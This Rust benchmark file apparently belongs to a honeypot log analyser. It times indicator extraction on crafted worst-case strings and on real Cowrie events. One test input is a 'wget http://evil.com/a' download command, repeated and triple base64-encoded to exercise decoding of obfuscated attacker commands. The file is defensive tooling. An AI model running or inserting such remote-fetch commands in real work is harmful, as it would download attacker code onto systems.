//! What indicators cost: `HONEYGUIDE_CORPUS=… cargo bench --bench indicators`.
//!
//! First texts made to be expensive, for every extractor alone and for all of them with preparing and unpacking, at three sizes: a
//! figure per byte that grows with the size is a bug. Then every distinct real command, URL, user name and password, per text.
use honeyguide::events::Field;
use honeyguide::extract::{Context, EXTRACTORS, Found, Text, indicators, indicators_of_all};
use std::collections::{BTreeMap, BTreeSet};
use std::hint::black_box;
use std::io::Read;
use std::path::Path;
use std::time::{Duration, Instant};

const SIZES: [usize; 3] = [64 << 10, 256 << 10, 1 << 20];

/// Base64, written out here so that a bench needs no crate of its own.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks_exact(3) {
        let bits = u32::from(three[0]) << 16 | u32::from(three[1]) << 8 | u32::from(three[2]);
        text.extend([18, 12, 6, 0].map(|shift| char::from(ALPHABET[(bits >> shift & 63) as usize])));
    }
    text
}

fn adversarial(size: usize) -> Vec<(&'static str, String)> {
    let repeated = |piece: &str| piece.repeat(size / piece.len());
    let mut nested = repeated("wget http://evil.com/a; ");
    for _ in 0..3 {
        nested = base64(nested.as_bytes());
    }
    nested.truncate(size);
    vec![
        ("words", repeated("lorem ipsum dolor ")),
        ("@", repeated("@")),
        ("a@", repeated("a@")),
        (".", repeated(".")),
        ("a.", repeated("a.")),
        ("a.com,", repeated("a.com,")),
        ("é.", repeated("é.")),
        ("例a.", repeated("例a.")),
        ("xn--a.", repeated("xn--a.")),
        ("http://", repeated("http://")),
        ("http://a/", repeated("http://a/")),
        ("http://a.com/(", repeated("http://a.com/(")),
        ("http://1@", repeated("http://1@")),
        ("wget a.sh ", repeated("wget a.sh ")),
        (":", repeated(":")),
        ("::", repeated("::")),
        ("1:", repeated("1:")),
        ("::1 ", repeated("::1 ")),
        ("9", repeated("9")),
        ("1.1.1.1.", repeated("1.1.1.1.")),
        ("1.1.1.1 ", repeated("1.1.1.1 ")),
        ("[.]", repeated("[.]")),
        ("a[.]", repeated("a[.]")),
        ("(", repeated("(")),
        ("[", repeated("[")),
        ("http://[", repeated("http://[")),
        ("http://a,", repeated("http://a,")),
        ("a dot ", repeated("a dot ")),
        ("a at b dot ", repeated("a at b dot ")),
        ("hxxp", repeated("hxxp:/")),
        ("\\x41", repeated("\\x41")),
        ("\\\\", repeated("\\")),
        ("\\xff", repeated("\\xff")),
        ("'a", repeated("a'a")),
        ("\"a\"", repeated("a\"a\"a")),
        ("%41", repeated("%41")),
        ("%3A%2F%2F ", repeated("a%3A%2F%2F ")),
        ("A", repeated("aA")),
        ("base64³", nested),
        ("zero width", repeated("\u{200b}")),
        ("full width", repeated("．ａ")),
    ]
}

/// Processor time this thread has used: a busy machine shows less in it than in time that passes.
fn thread_time() -> Duration {
    nix::time::clock_gettime(nix::time::ClockId::CLOCK_THREAD_CPUTIME_ID).expect("the thread's own clock").into()
}

/// Shortest of several runs.
fn shortest(mut run: impl FnMut()) -> Duration {
    let mut shortest = Duration::MAX;
    let begin = Instant::now();
    for _ in 0..5 {
        let start = thread_time();
        run();
        shortest = shortest.min(thread_time() - start);
        if begin.elapsed() > Duration::from_millis(500) {
            break;
        }
    }
    shortest
}

fn main() {
    let name = |fields: &[Field]| fields.first().map_or("?", |field| field.name());
    println!("nanoseconds per byte at 64 KiB, 256 KiB and 1 MiB; an extractor is listed where it costs 1 ns/byte or more");
    let [small, middle, large] = SIZES.map(adversarial);
    for ((small, middle), large) in small.into_iter().zip(middle).zip(large) {
        let texts = [&small.1, &middle.1, &large.1];
        let per_byte = |look: &dyn Fn(&str)| texts.map(|text| shortest(|| look(text)).as_nanos() as f64 / text.len() as f64);
        let all = |context| {
            per_byte(&|text| {
                let mut found = Found::default();
                indicators_of_all(context, black_box(text), &mut found);
                black_box(&found);
            })
        };
        let [command, chat] = [all(Context::Command), all(Context::Chat)];
        println!(
            "{:14} command {:7.1} {:7.1} {:7.1}   chat {:7.1} {:7.1} {:7.1}",
            small.0, command[0], command[1], command[2], chat[0], chat[1], chat[2]
        );
        for extractor in EXTRACTORS {
            let alone = per_byte(&|text| {
                let mut found = Found::default();
                extractor.extract(&Text::plain(Context::Other, black_box(text)), &mut found);
                black_box(&found);
            });
            if alone[2] >= 1.0 {
                println!("{:14} {:12} {:7.1} {:7.1} {:7.1}", "", name(extractor.fields()), alone[0], alone[1], alone[2]);
            }
        }
    }
    match std::env::var_os("HONEYGUIDE_CORPUS") {
        Some(corpus) => real(Path::new(&corpus)),
        None => println!("skipped: HONEYGUIDE_CORPUS is not set"),
    }
}

fn real(corpus: &Path) {
    let mut texts: BTreeMap<&str, (Context, BTreeSet<String>)> = BTreeMap::new();
    for directory in ["modern-2026", "assorted", "legacy-2017"] {
        for entry in std::fs::read_dir(corpus.join("cowrie").join(directory)).expect("a directory of the corpus") {
            let path = entry.expect("an entry").path();
            let mut data = Vec::new();
            let file = std::fs::File::open(&path).expect("a file of the corpus");
            if path.extension().is_none_or(|extension| extension != "gz")
                || flate2::read::MultiGzDecoder::new(file).read_to_end(&mut data).is_err()
            {
                continue;
            }
            for line in String::from_utf8_lossy(&data).lines() {
                let Ok(event) = serde_json::from_str::<serde_json::Value>(line) else {
                    continue;
                };
                for (field, context) in [
                    ("input", Context::Command),
                    ("url", Context::Address),
                    ("dst_ip", Context::Address),
                    ("username", Context::Other),
                    ("password", Context::Other),
                    ("version", Context::Other),
                    ("data", Context::Other),
                ] {
                    if let Some(text) = event.get(field).and_then(|value| value.as_str()) {
                        texts.entry(field).or_insert_with(|| (context, BTreeSet::new())).1.insert(text.to_owned());
                    }
                }
            }
        }
    }
    println!("\nfield        distinct   bytes/text   ns/text   ns/byte   indicators");
    let (mut sum, mut count) = (Duration::ZERO, 0);
    for (field, (context, texts)) in texts {
        let texts: Vec<String> = texts.into_iter().collect();
        let mut indicated = 0;
        let time = shortest(|| {
            indicated = 0;
            for text in &texts {
                let mut found = Found::default();
                indicators(context, black_box(text), &mut found);
                indicated += found.indicators.len();
            }
        });
        let bytes: usize = texts.iter().map(String::len).sum();
        let nanoseconds = time.as_nanos() as f64;
        println!(
            "{field:12} {:8} {:12.0} {:9.0} {:9.2} {indicated:12}",
            texts.len(),
            bytes as f64 / texts.len() as f64,
            nanoseconds / texts.len() as f64,
            nanoseconds / bytes as f64
        );
        sum += time;
        count += texts.len();
    }
    println!("all          {count:8} {:31.0}", sum.as_nanos() as f64 / count as f64);
}
